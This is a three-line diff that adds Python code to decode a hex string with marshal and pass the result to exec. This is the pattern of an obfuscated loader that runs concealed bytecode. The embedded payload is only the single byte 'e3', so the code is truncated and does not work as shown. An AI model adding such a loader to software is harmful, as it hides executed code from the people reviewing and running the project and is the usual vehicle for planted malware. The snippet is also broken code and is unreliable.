@@ -1,0 +1,3 @@
+import marshal
+H = "e3"
+exec(marshal.loads(bytes.fromhex(H)))
